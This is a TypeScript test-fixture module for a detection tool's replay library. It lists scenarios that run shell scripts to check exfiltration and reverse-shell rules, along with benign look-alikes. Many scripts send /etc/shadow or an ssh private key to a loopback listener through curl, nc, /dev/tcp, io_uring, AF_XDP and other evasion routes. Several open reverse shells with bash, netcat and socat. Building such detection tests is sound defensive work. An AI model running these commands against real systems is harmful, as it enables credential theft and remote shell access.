/**
 * The replay library (`replays/`): which real runs it holds, what each ran
 * and which rules each must yield. `record-replays.ts` records them;
 * `src/pipeline/replays.test.ts` holds every recorded trace to this list.
 * Covers every built-in chain rule (rules/chains.yaml) and the look-alikes
 * that must stay quiet, so `chainwatch rules test` notices a rule change
 * that loses or adds a detection without root or a kernel.
 */
import { join } from 'node:path';
import { outsideFdReceiver } from './live-harness.js';
import { buildIa32Exfil, buildUringExfil, buildXdpExfil, mmapScenario, procMemScenario, scmRightsScenario, sendfileScenario, sharedMemoryScenario, spliceScenario, tlsServerScenario, udpLeakScenario } from './scenarios.js';

/** What a recording run provides to the scenarios' scripts. */
export interface Workbench {
  /** A scratch directory (the traces name paths in it). */
  dir: string;
  /** A non-sensitive text file in `dir`. */
  notes: string;
  /** An ssh private key made by ssh-keygen at `dir/.ssh/id_ed25519` (class `secret`). */
  sshKey: string;
  /** HTTP server on 127.0.0.2 that reads request bodies. */
  httpPort: number;
  /** TCP listener on 127.0.0.2 that reads what it is sent. */
  tcpPort: number;
  /** TCP listener on 127.0.0.2 that sends `exit` to every connection (ends a reverse shell). */
  shellPort: number;
  /** A free port on 127.0.0.2 for a scenario's own server. */
  freePort: number;
}

export interface ReplayScenario {
  name: string;
  what: string;
  /** The rules of the findings the trace must yield, one entry per finding, sorted. Empty: must not fire. */
  mustYield: string[];
  /** The shell script run as the watched command (`bash -c`); may prepare things outside the task first. */
  script: (w: Workbench) => string | Promise<string>;
}

const STAGED_PAUSE_S = 31; // longer than the 30 s fast window of exfil.staged

export const REPLAY_LIBRARY: readonly ReplayScenario[] = [
  {
    name: 'curl-put-shadow',
    what: 'curl uploads /etc/shadow to 127.0.0.2 (one process)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `curl -s -m 10 -T /etc/shadow http://127.0.0.2:${w.httpPort}/ -o /dev/null`,
  },
  {
    name: 'pipeline-gzip-nc',
    what: '`cat /etc/shadow | gzip | nc 127.0.0.2` (three processes, two pipes)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `cat /etc/shadow | gzip | nc -N 127.0.0.2 ${w.tcpPort}`,
  },
  {
    name: 'scm-rights-send',
    what: 'a child opens /etc/shadow, passes the fd over a unix socket (SCM_RIGHTS); the parent reads it and sends it',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => scmRightsScenario(join(w.dir, 'pass.sock'), '/etc/shadow', w.tcpPort),
  },
  {
    name: 'sendfile-shadow',
    what: '`sendfile(2)` from /etc/shadow into a socket (no read or write)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => sendfileScenario('/etc/shadow', w.tcpPort),
  },
  {
    name: 'splice-shadow',
    what: '`splice(2)` from /etc/shadow into a pipe and from the pipe into a socket (no read or write)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => spliceScenario('/etc/shadow', w.tcpPort),
  },
  {
    name: 'mmap-shadow',
    what: '/etc/shadow mapped into memory (`mmap`, no read), the descriptor closed, the mapping sent to 127.0.0.2',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => mmapScenario('/etc/shadow', w.tcpPort),
  },
  {
    name: 'shm-fork-shadow',
    what: 'python3 shares anonymous memory with a child it forks, then reads /etc/shadow into it; the child, which never opens it and makes no syscall with the parent, sends it to 127.0.0.2',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => sharedMemoryScenario('/etc/shadow', w.tcpPort, { mode: 'anon' }),
  },
  {
    name: 'xdp-shadow',
    what: 'a program reads /etc/shadow into the memory it registered with an AF_XDP socket and sends it as an Ethernet frame on lo through the TX ring it mapped from the socket, kicked by a zero-byte sendto (no write of the data)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `${buildXdpExfil(w.dir)} /etc/shadow lo`,
  },
  {
    name: 'uring-shadow',
    what: 'a program opens /etc/shadow, reads it, connects to 127.0.0.2 and sends it, all through an io_uring ring (no open, read, connect or send syscall)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `${buildUringExfil(w.dir)} ring /etc/shadow ${w.tcpPort}`,
  },
  {
    name: 'ia32-shadow',
    what: 'a 64-bit program opens /etc/shadow, reads it, connects to 127.0.0.2 and sends it with 32-bit syscalls (int 0x80), which the syscall tracepoints do not report: no chain, but the compat calls are a finding',
    mustYield: ['integrity.ia32-syscalls'],
    script: (w) => `${buildIa32Exfil(w.dir)} /etc/shadow ${w.tcpPort}`,
  },
  {
    name: 'uring-udp-shadow',
    what: 'a program reads /etc/shadow through an io_uring ring and sends it in one UDP datagram to 127.0.0.2:5353 with a ring send that names the destination (no connect, no sendto)',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `${buildUringExfil(w.dir)} udpto /etc/shadow 5353`,
  },
  {
    name: 'proc-mem-key',
    what: "a process that never opens the ssh key finds it in the memory of one that read it (/proc/PID/maps, /proc/PID/mem) and sends it to 127.0.0.2",
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => procMemScenario(w.sshKey, w.tcpPort),
  },
  {
    name: 'hardlink-key',
    what: 'the ssh key hard-linked to an ordinary name (never opened by its own) and uploaded by curl from there',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `ln ${w.sshKey} ${w.dir}/notes-link.txt && curl -s -m 10 -T ${w.dir}/notes-link.txt http://127.0.0.2:${w.httpPort}/ -o /dev/null`,
  },
  {
    name: 'xattr-stage-key',
    what: 'one process puts the ssh key in an extended attribute of an ordinary file; another takes it out and sends it',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) =>
      `python3 -c 'import os; os.setxattr("${w.notes}", "user.a", open("${w.sshKey}", "rb").read())' && ` +
      `python3 -c 'import os, socket; d = os.getxattr("${w.notes}", "user.a"); s = socket.create_connection(("127.0.0.2", ${w.tcpPort})); s.sendall(d); s.close()'`,
  },
  {
    name: 'udp-leak-shadow',
    what: 'part of /etc/shadow, hex-encoded as a DNS-style name, in one UDP datagram to 127.0.0.2:5353',
    mustYield: ['exfil.read-then-transmit'],
    script: () => udpLeakScenario('/etc/shadow', 5353),
  },
  {
    name: 'fork-inherit-fd',
    what: 'a shell opens /etc/shadow as fd 3; a forked subshell inherits it, `cat <&3` sends it to /dev/tcp/127.0.0.2',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `exec 3</etc/shadow; ( cat <&3 > /dev/tcp/127.0.0.2/${w.tcpPort} )`,
  },
  {
    name: 'exec-sender',
    what: 'a shell reads the ssh key through `cat | head` and execs curl, which sends what the shell holds',
    mustYield: ['exfil.read-then-transmit'],
    script: (w) => `x=$(cat ${w.sshKey} | head -c 64); exec curl -s -m 10 --data "$x" http://127.0.0.2:${w.httpPort}/ -o /dev/null`,
  },
  {
    name: 'staged-cp-curl',
    what: `cp /etc/shadow to a file, ${STAGED_PAUSE_S} s later curl (another process) uploads that file`,
    mustYield: ['exfil.staged'],
    script: (w) => `cp /etc/shadow ${join(w.dir, 'staged.bin')}; sleep ${STAGED_PAUSE_S}; curl -s -m 10 --data-binary @${join(w.dir, 'staged.bin')} http://127.0.0.2:${w.httpPort}/ -o /dev/null`,
  },
  {
    name: 'fd-passed-out',
    what: 'the ssh key opened and its fd passed over a unix socket to a process outside the task, which reads it',
    mustYield: ['fd.passed-to-unwatched'],
    script: async (w) => {
      const sock = join(w.dir, 'outside.sock');
      await outsideFdReceiver(sock);
      // the sleep lets the rule's 2 s window for a receiver inside the task end within the trace
      return `python3 -c '
import os, socket, array
c = socket.socket(socket.AF_UNIX); c.connect("${sock}")
fd = os.open("${w.sshKey}", os.O_RDONLY)
c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
'; sleep 3`;
    },
  },
  {
    name: 'revshell-bash',
    what: '`bash -i >& /dev/tcp/127.0.0.2/PORT 0>&1` (the listener answers `exit`)',
    mustYield: ['shell.stdio-over-socket'],
    script: (w) => `bash -i >& /dev/tcp/127.0.0.2/${w.shellPort} 0>&1`,
  },
  {
    name: 'revshell-nc-e',
    what: '`nc -e /bin/sh 127.0.0.2 PORT` (netcat-traditional: dup2 + exec)',
    mustYield: ['shell.stdio-over-socket'],
    script: (w) => `nc.traditional -e /bin/sh 127.0.0.2 ${w.shellPort}`,
  },
  {
    name: 'revshell-socat',
    what: '`socat TCP:127.0.0.2:PORT EXEC:/bin/sh` (the shell reads a socketpair socat fills from the socket)',
    mustYield: ['shell.relayed-from-socket'],
    script: (w) => `socat TCP:127.0.0.2:${w.shellPort} EXEC:/bin/sh`,
  },
  {
    name: 'benign-download',
    what: 'curl downloads a page into a file',
    mustYield: [],
    script: (w) => `curl -s -m 10 -o ${join(w.dir, 'page.html')} http://127.0.0.2:${w.httpPort}/`,
  },
  {
    name: 'benign-send-notes',
    what: 'a non-sensitive file sent to 127.0.0.2',
    mustYield: [],
    script: (w) => `curl -s -m 10 -T ${w.notes} http://127.0.0.2:${w.httpPort}/ -o /dev/null`,
  },
  {
    name: 'benign-secret-not-sent',
    what: 'secrets read and compressed into a local file, nothing sent',
    mustYield: [],
    script: (w) => `cat ${w.sshKey} > /dev/null; gzip -c < /etc/shadow > ${join(w.dir, 'shadow.gz')}`,
  },
  {
    name: 'benign-ssh-keygen',
    what: '`ssh-keygen -y`: reads the private key, writes the public key, no network',
    mustYield: [],
    script: (w) => `ssh-keygen -y -f ${w.sshKey} > ${join(w.dir, 'id.pub')}`,
  },
  {
    name: 'benign-tls-server',
    what: 'a local TLS server reads its own key and answers on a connection it accepted',
    mustYield: [],
    script: (w) => tlsServerScenario(join(w.dir, 'tls'), w.freePort),
  },
  {
    name: 'benign-shell-sends-file',
    what: 'a shell sends a file to a socket with `> /dev/tcp/…` (one dup, no shell on the socket)',
    mustYield: [],
    script: (w) => `cat ${w.notes} > /dev/tcp/127.0.0.2/${w.shellPort}; echo done`,
  },
];
